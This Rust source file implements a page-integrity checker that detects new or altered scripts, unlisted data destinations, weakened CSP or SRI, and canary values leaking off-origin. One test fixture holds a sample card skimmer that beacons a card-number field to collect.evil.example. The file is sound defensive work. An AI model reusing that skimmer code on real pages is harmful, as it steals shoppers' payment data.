//! Page integrity (S6; PCI DSS 11.6.1): one check of a page read against
//! what the ledger knows of it and what the directory expects of it.
//!
//! Findings, each one `page_integrity` alert:
//! - `new_script`: a script (or inline script) not in the inventory and not
//!   listed in the page's `[[page.script]]`; `high` from an origin the page
//!   never loaded scripts from, `medium` otherwise;
//! - `script_changed`: a script whose content changed and whose entry does
//!   not say `may_change = true` (unlisted scripts may not change either),
//!   `high`, with a summary of the change: bytes and lines added and
//!   removed, an excerpt of the new code, the URLs it names;
//! - `new_destination`: an origin the page sent data to (fetch, XHR,
//!   beacon, image, WebSocket, form post) that is neither the page's own,
//!   in the inventory, nor in `destinations`, `high`;
//! - `csp_removed` (`high`), `csp_weakened` (`medium`) and `sri_removed`
//!   (`high`), against the previous check's headers;
//! - `canary_sent`: a canary value typed into the page's fields left for
//!   another origin, `critical`.
//!
//! The first check of a page is its baseline: it records what it saw and
//! raises nothing, except `canary_sent` (a page that sends what customers
//! type to someone else is never a baseline). A finding is raised when it
//! first appears; the next check finds the script or destination in the
//! inventory. The alert's actor is the host of the script responsible (a
//! new destination's initiator, a changed script's origin), else the
//! page's host, so one vendor's changes group into one incident.
//!
//! A check that fails (timeout, error status, unreachable, redirect to
//! another origin) raises `page_check_failed` (`medium`), one incident per
//! page, kind and day, and leaves the inventory as it was.
//!
//! Blind spots: code run through `eval` or `Function` without a script of
//! its own, inline scripts inside frames, service workers, inline scripts
//! removed before the page settles, canary values encoded other than
//! plainly, by URL encoding or base64, and behaviour that waits for a real
//! submit, a given day, or a visitor other than a fresh browser.

use base64::Engine as _;
use serde_json::{json, Map, Value};
use vakt_event::alert::{Actor, Alert, AlertStatus, Severity};
use vakt_event::page::{
    host_of, origin_of, CheckFailure, Inventory, Known, PageEntry, PageSnapshot, CHECK_RULE, RULE,
    SENDING_KINDS,
};
use vakt_event::Timestamp;

/// Longest excerpt of changed code in an alert.
const EXCERPT: usize = 400;

/// One thing a check found.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    /// `new_script`, `script_changed`, `new_destination`, `csp_removed`,
    /// `csp_weakened`, `sri_removed`, `canary_sent`.
    pub kind: &'static str,
    pub severity: Severity,
    /// The script, destination or header it is about.
    pub subject: String,
    /// The host held responsible (the alert's actor).
    pub actor: String,
    pub message: String,
    pub evidence: Map<String, Value>,
}

/// Compares `snap` (a successful check of `entry`'s page) with `inv`;
/// `body` gives a known script version's content by its SHA-384.
pub fn compare(
    entry: &PageEntry,
    inv: &Inventory,
    snap: &PageSnapshot,
    body: &dyn Fn(&str) -> Option<String>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    let page_origin = origin_of(&snap.final_url);
    let baseline = inv.last.is_none();
    canaries(snap, &page_origin, &mut out);
    if !baseline {
        let known = inv.known();
        scripts(entry, &known, inv.scripts.len(), snap, body, &mut out);
        destinations(entry, &known, inv, snap, &page_origin, &mut out);
        headers(inv, snap, &mut out);
    }
    at_most_per_kind(out, MAX_PER_KIND)
}

/// Findings of one kind raised by one check at most: a page that loads a
/// thousand new origins raises twenty alerts, the last saying how many
/// more there were, not a thousand.
pub const MAX_PER_KIND: usize = 20;

fn at_most_per_kind(found: Vec<Finding>, max: usize) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::with_capacity(found.len().min(8 * max));
    let mut counts: std::collections::HashMap<&'static str, usize> = Default::default();
    for f in found {
        let n = counts.entry(f.kind).or_default();
        *n += 1;
        if *n <= max {
            out.push(f);
        }
    }
    for (kind, n) in counts.into_iter().filter(|(_, n)| *n > max) {
        if let Some(last) = out.iter_mut().rev().find(|f| f.kind == kind) {
            let more = n - max;
            last.evidence
                .insert("more_of_this_kind".into(), more.into());
            last.message
                .push_str(&format!(" (and {more} more {kind} findings in this check)"));
        }
    }
    out
}

fn responsible(initiator: &str, page: &str) -> String {
    if initiator.contains("://") {
        host_of(initiator)
    } else {
        host_of(page)
    }
}

fn scripts(
    entry: &PageEntry,
    known: &Known,
    scripts_known: usize,
    snap: &PageSnapshot,
    body: &dyn Fn(&str) -> Option<String>,
    out: &mut Vec<Finding>,
) {
    for s in &snap.scripts {
        if known.script(&s.url, s.inline, &s.sha384) {
            continue;
        }
        let expected = entry.expected(&s.url, s.inline);
        let previous = (!s.inline).then(|| known.latest(&s.url)).flatten();
        if let Some(prev) = previous {
            if expected.is_some_and(|e| e.may_change) {
                continue;
            }
            let old = body(&prev.sha384);
            let summary = change_summary(old.as_deref(), s.source.as_deref());
            let mut ev = Map::new();
            ev.insert("finding".into(), "script_changed".into());
            ev.insert("page".into(), entry.url.get_ref().clone().into());
            ev.insert("script".into(), s.url.clone().into());
            ev.insert(
                "observed".into(),
                json!({"sha384": s.sha384, "bytes": s.bytes}),
            );
            ev.insert(
                "baseline".into(),
                json!({"sha384": prev.sha384, "bytes": prev.bytes, "first_seen": prev.first_seen.to_rfc3339(), "last_seen": prev.last_seen.to_rfc3339()}),
            );
            ev.insert("change".into(), summary.clone());
            if let Some(e) = expected {
                ev.insert("justification".into(), e.justification.clone().into());
            }
            let new_urls = summary["urls_added"].as_array().map_or(0, Vec::len);
            out.push(Finding {
                kind: "script_changed",
                severity: Severity::High,
                subject: format!("{}#{}", s.url, s.sha384),
                actor: host_of(&s.url),
                message: format!(
                    "{} on {} changed ({} bytes added, {} removed{}) though it is not allowed to change",
                    s.url,
                    entry.url.get_ref(),
                    summary["bytes_added"],
                    summary["bytes_removed"],
                    if new_urls > 0 {
                        format!("; it now names {new_urls} new URL(s)")
                    } else {
                        String::new()
                    }
                ),
                evidence: ev,
            });
            continue;
        }
        if expected.is_some() {
            continue;
        }
        let origin = origin_of(&s.url);
        let new_origin = !s.inline && !known.script_origin(&origin);
        let what = if s.inline {
            "an inline script".to_string()
        } else {
            s.url.clone()
        };
        let mut ev = Map::new();
        ev.insert("finding".into(), "new_script".into());
        ev.insert("page".into(), entry.url.get_ref().clone().into());
        ev.insert("script".into(), s.url.clone().into());
        ev.insert("inline".into(), s.inline.into());
        ev.insert("loaded_by".into(), s.loaded_by.clone().into());
        ev.insert(
            "observed".into(),
            json!({"sha384": s.sha384, "bytes": s.bytes, "origin": origin, "new_origin": new_origin}),
        );
        ev.insert(
            "baseline".into(),
            json!({"scripts_known": scripts_known, "listed_in_directory": false}),
        );
        if let Some(src) = &s.source {
            ev.insert("excerpt".into(), excerpt(src).into());
        }
        out.push(Finding {
            kind: "new_script",
            severity: if new_origin {
                Severity::High
            } else {
                Severity::Medium
            },
            subject: format!("{}#{}", s.url, s.sha384),
            actor: if s.inline {
                host_of(&snap.final_url)
            } else {
                host_of(&s.url)
            },
            message: format!(
                "{} loads {what}{}, which is not in its inventory nor listed in the directory",
                entry.url.get_ref(),
                if new_origin {
                    format!(" from {origin}, an origin it never loaded scripts from")
                } else {
                    String::new()
                }
            ),
            evidence: ev,
        });
    }
}

fn destinations(
    entry: &PageEntry,
    known: &Known,
    inv: &Inventory,
    snap: &PageSnapshot,
    page_origin: &str,
    out: &mut Vec<Finding>,
) {
    let mut raised: std::collections::HashSet<String> = Default::default();
    for q in snap
        .requests
        .iter()
        .filter(|q| SENDING_KINDS.contains(&q.kind.as_str()))
    {
        let origin = origin_of(&q.url);
        if origin == page_origin
            || !origin.contains("://")
            || known.destination(&origin)
            || entry.destination_listed(&q.url)
            || raised.contains(&origin)
        {
            continue;
        }
        raised.insert(origin.clone());
        let mut ev = Map::new();
        ev.insert("finding".into(), "new_destination".into());
        ev.insert("page".into(), entry.url.get_ref().clone().into());
        ev.insert("destination".into(), origin.clone().into());
        ev.insert(
            "observed".into(),
            json!({"kind": q.kind, "method": q.method, "url": clip(&q.url, 300), "initiator": q.initiator, "blocked": q.blocked}),
        );
        ev.insert(
            "baseline".into(),
            json!({
                "destinations_known": inv.destinations.len(),
                "first_known": inv.destinations.iter().take(20).map(|d| d.origin.as_str()).collect::<Vec<_>>(),
            }),
        );
        out.push(Finding {
            kind: "new_destination",
            severity: Severity::High,
            subject: origin.clone(),
            actor: responsible(&q.initiator, &snap.final_url),
            message: format!(
                "{} sent data to {origin} ({}, by {}){}: a destination it never sent to and not listed",
                entry.url.get_ref(),
                how(q),
                q.initiator,
                if q.blocked.is_some() {
                    ", blocked by the browser"
                } else {
                    ""
                }
            ),
            evidence: ev,
        });
    }
}

/// A request's kind and method as a message says them (a request the
/// browser blocked before sending has no method).
fn how(q: &vakt_event::page::RequestSeen) -> String {
    if q.method.is_empty() {
        q.kind.clone()
    } else {
        format!("{} {}", q.kind, q.method)
    }
}

fn headers(inv: &Inventory, snap: &PageSnapshot, out: &mut Vec<Finding>) {
    let Some(last) = &inv.last else { return };
    let page = &snap.url;
    let host = host_of(&snap.final_url);
    match (&last.csp, &snap.csp) {
        (Some(old), None) => {
            let mut ev = Map::new();
            ev.insert("finding".into(), "csp_removed".into());
            ev.insert("page".into(), page.clone().into());
            ev.insert(
                "observed".into(),
                json!({"csp": null, "csp_report_only": snap.csp_report_only}),
            );
            ev.insert("baseline".into(), json!({"csp": old}));
            out.push(Finding {
                kind: "csp_removed",
                severity: Severity::High,
                subject: "content-security-policy".into(),
                actor: host.clone(),
                message: format!(
                    "{page} no longer sends its Content-Security-Policy{}",
                    if snap.csp_report_only.is_some() {
                        " (only a report-only one)"
                    } else {
                        ""
                    }
                ),
                evidence: ev,
            });
        }
        (Some(old), Some(new)) => {
            let how = crate::csp::weakened(old, new);
            if !how.is_empty() {
                let mut ev = Map::new();
                ev.insert("finding".into(), "csp_weakened".into());
                ev.insert("page".into(), page.clone().into());
                ev.insert("observed".into(), json!({"csp": new}));
                ev.insert("baseline".into(), json!({"csp": old}));
                ev.insert("weakened".into(), json!(how));
                out.push(Finding {
                    kind: "csp_weakened",
                    severity: Severity::Medium,
                    subject: format!("content-security-policy {}", how.join("; ")),
                    actor: host.clone(),
                    message: format!(
                        "{page}'s Content-Security-Policy is weaker: {}",
                        how.join("; ")
                    ),
                    evidence: ev,
                });
            }
        }
        _ => {}
    }
    for (src, integrity) in &last.sri {
        let now = snap
            .script_tags
            .iter()
            .find(|t| t.src.as_deref() == Some(src.as_str()));
        if let Some(tag) = now.filter(|t| t.integrity.is_none()) {
            let mut ev = Map::new();
            ev.insert("finding".into(), "sri_removed".into());
            ev.insert("page".into(), page.clone().into());
            ev.insert("script".into(), src.clone().into());
            ev.insert("observed".into(), json!({"integrity": tag.integrity}));
            ev.insert("baseline".into(), json!({"integrity": integrity}));
            out.push(Finding {
                kind: "sri_removed",
                severity: Severity::High,
                subject: src.clone(),
                actor: host.clone(),
                message: format!("{page} loads {src} without the integrity attribute it had ({integrity}): its content is no longer checked by the browser"),
                evidence: ev,
            });
        }
    }
}

/// The forms a canary value may take in a request: as typed, digits only
/// (a card number without spaces), URL-encoded (`%20` or a form's `+` for
/// a space), base64.
fn encodings(value: &str) -> Vec<String> {
    let mut out = vec![value.to_string()];
    let digits: String = value.chars().filter(char::is_ascii_digit).collect();
    if digits.len() >= 8 && digits.len() != value.len() {
        out.push(digits);
    }
    let encoded: String = value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    if encoded != value {
        // Forms encode a space as `+`.
        if encoded.contains("%20") {
            out.push(encoded.replace("%20", "+"));
        }
        out.push(encoded);
    }
    let b64 = base64::engine::general_purpose::STANDARD.encode(value);
    out.push(b64.trim_end_matches('=').to_string());
    out
}

fn canaries(snap: &PageSnapshot, page_origin: &str, out: &mut Vec<Finding>) {
    let values: Vec<(&str, Vec<String>)> = snap
        .canaries
        .iter()
        .filter(|v| v.len() >= 6)
        .map(|v| (v.as_str(), encodings(v)))
        .collect();
    let mut raised: std::collections::HashSet<String> = Default::default();
    for q in &snap.requests {
        let origin = origin_of(&q.url);
        if origin == page_origin || raised.contains(&origin) {
            continue;
        }
        let carried: Vec<&str> = values
            .iter()
            .filter(|(_, forms)| {
                forms.iter().any(|f| {
                    q.url.contains(f.as_str())
                        || q.body.as_deref().is_some_and(|b| b.contains(f.as_str()))
                })
            })
            .map(|(v, _)| *v)
            .collect();
        if carried.is_empty() {
            continue;
        }
        raised.insert(origin.clone());
        let mut ev = Map::new();
        ev.insert("finding".into(), "canary_sent".into());
        ev.insert("page".into(), snap.url.clone().into());
        ev.insert("destination".into(), origin.clone().into());
        ev.insert(
            "observed".into(),
            json!({"canaries": carried, "kind": q.kind, "method": q.method, "url": clip(&q.url, 300), "initiator": q.initiator, "blocked": q.blocked}),
        );
        ev.insert("baseline".into(), json!({"allowed_origin": page_origin}));
        out.push(Finding {
            kind: "canary_sent",
            severity: Severity::Critical,
            subject: origin.clone(),
            actor: responsible(&q.initiator, &snap.final_url),
            message: format!(
                "what was typed into {} ({} canary value(s)) was sent to {origin} by {}{}",
                snap.url,
                carried.len(),
                q.initiator,
                if q.blocked.is_some() {
                    " (blocked by the browser this time)"
                } else {
                    ""
                }
            ),
            evidence: ev,
        });
    }
}

/// What changed between two versions of a script: bytes and lines added
/// and removed, an excerpt of the new code around the change, and the
/// URLs the new version names that the old did not. Works on minified
/// (one-line) code too: the change is what lies between the longest
/// common prefix and suffix.
pub fn change_summary(old: Option<&str>, new: Option<&str>) -> Value {
    let (Some(old), Some(new)) = (old, new) else {
        return json!({"bytes_added": null, "bytes_removed": null, "urls_added": [], "excerpt": null, "note": "a version's content was not kept (over 1 MiB or not text)"});
    };
    let (a, b) = (old.as_bytes(), new.as_bytes());
    let prefix = a.iter().zip(b).take_while(|(x, y)| x == y).count();
    let max_suffix = a.len().min(b.len()) - prefix;
    let suffix = a
        .iter()
        .rev()
        .zip(b.iter().rev())
        .take(max_suffix)
        .take_while(|(x, y)| x == y)
        .count();
    let start = floor_char(new, prefix);
    let end = ceil_char(new, b.len() - suffix);
    let added = &new[start..end.max(start)];
    let old_lines: std::collections::HashSet<&str> = old.lines().collect();
    let new_lines: std::collections::HashSet<&str> = new.lines().collect();
    let old_urls = urls(old);
    let urls_added: Vec<String> = urls(new)
        .into_iter()
        .filter(|u| !old_urls.contains(u))
        .take(20)
        .collect();
    json!({
        "bytes_added": b.len() - prefix - suffix,
        "bytes_removed": a.len() - prefix - suffix,
        "lines_added": new_lines.difference(&old_lines).count(),
        "lines_removed": old_lines.difference(&new_lines).count(),
        "excerpt": excerpt(added),
        "urls_added": urls_added,
    })
}

fn floor_char(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn ceil_char(s: &str, mut i: usize) -> usize {
    while i < s.len() && !s.is_char_boundary(i) {
        i += 1;
    }
    i
}

fn excerpt(code: &str) -> String {
    clip(code.trim(), EXCERPT)
}

fn clip(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_string();
    }
    format!("{}…", &s[..floor_char(s, max)])
}

/// `http(s)://` and `ws(s)://` URLs written in code, as origins.
fn urls(code: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for scheme in ["https://", "http://", "wss://", "ws://"] {
        let mut rest = code;
        while let Some(i) = rest.find(scheme) {
            let tail = &rest[i..];
            let end = tail
                .find(|c: char| c.is_whitespace() || "'\"`)<>\\".contains(c))
                .unwrap_or(tail.len());
            let origin = origin_of(&tail[..end]);
            if !out.contains(&origin) {
                out.push(origin);
            }
            rest = &tail[scheme.len()..];
        }
    }
    out
}

/// A stable id per page and finding subject (FNV-1a, as detectors' ids).
fn alert_id(rule: &str, page: &str, kind: &str, subject: &str) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in page
        .bytes()
        .chain([0])
        .chain(kind.bytes())
        .chain([0])
        .chain(subject.bytes())
    {
        h ^= b as u64;
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    format!("{rule}-{:012x}", h & 0xffff_ffff_ffff)
}

/// A finding as a `page_integrity` alert.
pub fn to_alert(page: &str, f: &Finding, at: Timestamp) -> Alert {
    Alert {
        id: alert_id(RULE, page, f.kind, &f.subject),
        timestamp: at,
        rule: RULE.into(),
        severity: f.severity,
        actor: Actor::host(&f.actor),
        organization: None,
        first_seen: at,
        message: f.message.clone(),
        evidence: f.evidence.clone(),
        customers: 0,
        status: AlertStatus::New,
        updates: 0,
    }
}

/// A `page_check_failed` alert: one incident per page, kind of failure and day.
fn check_failed(
    page: &str,
    kind: &str,
    message: String,
    observed: Value,
    baseline: Value,
    at: Timestamp,
) -> Alert {
    let day = at.0.div_euclid(vakt_event::time::DAY);
    let mut ev = Map::new();
    ev.insert("page".into(), page.into());
    ev.insert("failure".into(), kind.into());
    ev.insert("observed".into(), observed);
    ev.insert("baseline".into(), baseline);
    Alert {
        id: alert_id(CHECK_RULE, page, kind, &day.to_string()),
        timestamp: at,
        rule: CHECK_RULE.into(),
        severity: Severity::Medium,
        actor: Actor::host(&host_of(page)),
        organization: None,
        first_seen: at,
        message,
        evidence: ev,
        customers: 0,
        status: AlertStatus::New,
        updates: 0,
    }
}

/// A check that could not be made, as a `page_check_failed` alert.
pub fn failure_alert(page: &str, failure: &CheckFailure, at: Timestamp) -> Alert {
    let kind = match failure {
        CheckFailure::Timeout(_) => "timeout",
        CheckFailure::Status(_) => "status",
        CheckFailure::Unreachable(_) => "unreachable",
        CheckFailure::Browser(_) => "browser",
    };
    check_failed(
        page,
        kind,
        format!("{page} could not be checked: {failure}"),
        failure.to_string().into(),
        "the page loads and answers 2xx".into(),
        at,
    )
}

/// A check that ended on another origin than the page's (a redirect):
/// nothing of it is compared or recorded, since it is not the page.
pub fn moved_alert(page: &str, final_url: &str, at: Timestamp) -> Option<Alert> {
    if origin_of(page) == origin_of(final_url) {
        return None;
    }
    Some(check_failed(
        page,
        "moved",
        format!("{page} now redirects to {final_url}, another origin: the page was not checked"),
        json!({"final_url": final_url}),
        json!({"origin": origin_of(page)}),
        at,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use vakt_event::page::{
        KnownDestination, KnownScript, LastCheck, RequestSeen, ScriptSeen, ScriptTag,
    };
    use vakt_event::Directory;

    const PAGE: &str = "https://shop.example/pay";

    fn entry(extra: &str) -> PageEntry {
        let d = Directory::from_toml(&format!("[[page]]\nurl = \"{PAGE}\"\n{extra}"), "d").unwrap();
        d.pages.into_iter().next().unwrap()
    }

    fn seen(url: &str, sha: &str, src: &str) -> ScriptSeen {
        ScriptSeen {
            url: url.into(),
            sha384: sha.into(),
            bytes: src.len() as u64,
            loaded_by: "page".into(),
            source: Some(src.into()),
            ..Default::default()
        }
    }

    fn known(url: &str, sha: &str) -> KnownScript {
        KnownScript {
            page: PAGE.into(),
            url: url.into(),
            sha384: sha.into(),
            ..Default::default()
        }
    }

    fn snapshot(scripts: Vec<ScriptSeen>, requests: Vec<RequestSeen>) -> PageSnapshot {
        PageSnapshot {
            url: PAGE.into(),
            final_url: PAGE.into(),
            status: Some(200),
            scripts,
            requests,
            csp: Some("script-src 'self' https://chat.vendor.example".into()),
            ..Default::default()
        }
    }

    fn inventory(scripts: Vec<KnownScript>, destinations: &[&str]) -> Inventory {
        Inventory {
            scripts,
            destinations: destinations
                .iter()
                .map(|o| KnownDestination {
                    page: PAGE.into(),
                    origin: o.to_string(),
                    kinds: "image".into(),
                    ..Default::default()
                })
                .collect(),
            last: Some(LastCheck {
                final_url: PAGE.into(),
                csp: Some("script-src 'self' https://chat.vendor.example".into()),
                sri: vec![("https://shop.example/app.js".into(), "sha384-app".into())],
                ..Default::default()
            }),
        }
    }

    fn beacon(url: &str, by: &str, body: &str) -> RequestSeen {
        RequestSeen {
            url: url.into(),
            method: "POST".into(),
            kind: "beacon".into(),
            initiator: by.into(),
            body: Some(body.into()),
            blocked: None,
        }
    }

    const CHAT: &str = "https://chat.vendor.example/widget.js";
    const OLD: &str = "(function(){var w=document.createElement('div');w.id='chat';document.body.appendChild(w)})();";
    const NEW: &str = "(function(){var w=document.createElement('div');w.id='chat';document.body.appendChild(w);document.querySelector('[name=cardnumber]').addEventListener('change',function(e){navigator.sendBeacon('https://collect.evil.example/c',e.target.value)})})();";

    #[test]
    fn a_skimmer_in_the_vendor_script_is_named_with_its_change_and_destination() {
        let e = entry("");
        let inv = inventory(vec![known(CHAT, "sha384-old")], &["https://px.example"]);
        let mut snap = snapshot(
            vec![seen(CHAT, "sha384-new", NEW)],
            vec![beacon(
                "https://collect.evil.example/c",
                CHAT,
                "4000001234567899",
            )],
        );
        snap.canaries = vec!["4000001234567899".into()];
        let body = |sha: &str| (sha == "sha384-old").then(|| OLD.to_string());
        let found = compare(&e, &inv, &snap, &body);
        let kinds: Vec<_> = found.iter().map(|f| f.kind).collect();
        assert_eq!(kinds, ["canary_sent", "script_changed", "new_destination"]);
        let changed = &found[1];
        assert_eq!(changed.actor, "chat.vendor.example");
        assert_eq!(
            changed.evidence["change"]["urls_added"],
            json!(["https://collect.evil.example"])
        );
        assert!(changed.evidence["change"]["excerpt"]
            .as_str()
            .unwrap()
            .contains("sendBeacon"));
        assert_eq!(changed.evidence["baseline"]["sha384"], "sha384-old");
        let dest = &found[2];
        assert_eq!(dest.subject, "https://collect.evil.example");
        assert_eq!(
            dest.actor, "chat.vendor.example",
            "the script that sent it is responsible"
        );
        assert_eq!(found[0].severity, Severity::Critical);
        let a = to_alert(PAGE, changed, Timestamp(1));
        assert_eq!(a.rule, RULE);
        assert_eq!(
            a.id,
            to_alert(PAGE, changed, Timestamp(2)).id,
            "ids are stable"
        );
    }

    #[test]
    fn benign_look_alikes_raise_nothing() {
        // A script allowed to change, a new version under a listed pattern,
        // a beacon to a known analytics origin, and one to a listed one.
        let e = entry(
            "destinations = [\"https://metrics.example\"]\n[[page.script]]\nurl = \"https://chat.vendor.example/*\"\njustification = \"chat\"\nmay_change = true\n[[page.script]]\nurl = \"https://shop.example/app.*.js\"\njustification = \"our bundle\"\n",
        );
        let inv = inventory(
            vec![
                known(CHAT, "sha384-old"),
                known("https://shop.example/app.1.js", "sha384-v1"),
            ],
            &["https://px.example"],
        );
        let snap = snapshot(
            vec![
                seen(CHAT, "sha384-new", NEW),
                seen("https://shop.example/app.2.js", "sha384-v2", "v2"),
            ],
            vec![
                beacon("https://px.example/b", "page", "view"),
                beacon("https://metrics.example/b", "page", "view"),
                beacon("https://shop.example/api/cart", "page", "{}"),
            ],
        );
        assert_eq!(compare(&e, &inv, &snap, &|_| None), []);
    }

    #[test]
    fn the_first_check_is_the_baseline_but_a_canary_leaving_is_not() {
        let e = entry("");
        let mut snap = snapshot(
            vec![seen("https://cdn.other.example/x.js", "sha384-x", "x")],
            vec![beacon("https://collect.evil.example/c", "page", "view")],
        );
        assert_eq!(compare(&e, &Inventory::default(), &snap, &|_| None), []);
        snap.canaries = vec!["canary-7f3a@example.net".into()];
        snap.requests[0].url = "https://collect.evil.example/c?e=canary-7f3a%40example.net".into();
        let found = compare(&e, &Inventory::default(), &snap, &|_| None);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, "canary_sent");
        assert_eq!(
            found[0].evidence["observed"]["canaries"],
            json!(["canary-7f3a@example.net"])
        );
        // A form's encoding of a name, and base64 of a card number.
        snap.canaries = vec!["Anna Lindqvist".into(), "4000001234567899".into()];
        snap.requests[0].url = "https://collect.evil.example/c".into();
        snap.requests[0].body = Some("holder=Anna+Lindqvist".into());
        let found = compare(&e, &Inventory::default(), &snap, &|_| None);
        assert_eq!(
            found[0].evidence["observed"]["canaries"],
            json!(["Anna Lindqvist"])
        );
        snap.requests[0].body = Some("d=NDAwMDAwMTIzNDU2Nzg5OQ".into());
        let found = compare(&e, &Inventory::default(), &snap, &|_| None);
        assert_eq!(
            found[0].evidence["observed"]["canaries"],
            json!(["4000001234567899"])
        );
        // The page's own origin may receive what was typed into it.
        snap.requests[0].url = format!("{PAGE}/checkout");
        assert_eq!(compare(&e, &Inventory::default(), &snap, &|_| None), []);
    }

    #[test]
    fn new_scripts_and_weaker_headers_are_found() {
        let e = entry("");
        let inv = inventory(vec![known(CHAT, "sha384-old")], &[]);
        let mut snap = snapshot(
            vec![
                seen(CHAT, "sha384-old", OLD),
                seen("https://cdn.chat.vendor.example/extra.js", "sha384-e", "e"),
                ScriptSeen {
                    inline: true,
                    ..seen(PAGE, "sha384-inline", "console.log(1)")
                },
            ],
            vec![],
        );
        snap.csp = Some("script-src 'self' 'unsafe-inline' https://chat.vendor.example".into());
        snap.script_tags = vec![ScriptTag {
            src: Some("https://shop.example/app.js".into()),
            integrity: None,
        }];
        let found = compare(&e, &inv, &snap, &|_| None);
        let kinds: Vec<_> = found.iter().map(|f| (f.kind, f.severity)).collect();
        assert_eq!(
            kinds,
            [
                ("new_script", Severity::High),
                ("new_script", Severity::Medium),
                ("csp_weakened", Severity::Medium),
                ("sri_removed", Severity::High)
            ]
        );
        assert_eq!(found[0].actor, "cdn.chat.vendor.example");
        snap.csp = None;
        let found = compare(&e, &inv, &snap, &|_| None);
        assert!(found.iter().any(|f| f.kind == "csp_removed"));
    }

    #[test]
    fn a_flood_of_new_origins_raises_a_bounded_number_of_alerts() {
        let e = entry("");
        let inv = inventory(vec![known(CHAT, "sha384-old")], &[]);
        let requests = (0..500)
            .map(|i| beacon(&format!("https://x{i}.flood.example/b"), CHAT, "v"))
            .collect();
        let found = compare(&e, &inv, &snapshot(vec![], requests), &|_| None);
        assert_eq!(found.len(), MAX_PER_KIND);
        let last = found.last().unwrap();
        assert_eq!(last.evidence["more_of_this_kind"], 480);
        assert!(
            last.message
                .contains("and 480 more new_destination findings"),
            "{}",
            last.message
        );
    }

    #[test]
    fn failures_and_moves_are_alerts_of_their_own() {
        let a = failure_alert(
            PAGE,
            &CheckFailure::Timeout(15),
            Timestamp(86_400_000 * 3 + 5),
        );
        assert_eq!(a.rule, CHECK_RULE);
        assert!(
            a.message.contains("did not finish loading within 15 s"),
            "{}",
            a.message
        );
        let b = failure_alert(
            PAGE,
            &CheckFailure::Timeout(15),
            Timestamp(86_400_000 * 3 + 9_000),
        );
        assert_eq!(a.id, b.id, "one incident per page, kind and day");
        assert!(moved_alert(PAGE, "https://shop.example/pay/v2", Timestamp(1)).is_none());
        let m = moved_alert(PAGE, "https://evil.example/pay", Timestamp(1)).unwrap();
        assert_eq!(
            m.evidence["observed"]["final_url"],
            "https://evil.example/pay"
        );
    }

    #[test]
    fn change_summaries_handle_minified_code_and_missing_versions() {
        let s = change_summary(Some("a();b();"), Some("a();x();b();"));
        assert_eq!(
            (s["bytes_added"].as_u64(), s["bytes_removed"].as_u64()),
            (Some(4), Some(0))
        );
        assert_eq!(s["excerpt"], "x();");
        let s = change_summary(Some("é"), Some("è"));
        assert!(s["excerpt"].is_string());
        let s = change_summary(None, Some("x"));
        assert!(s["note"].as_str().unwrap().contains("not kept"));
    }
}
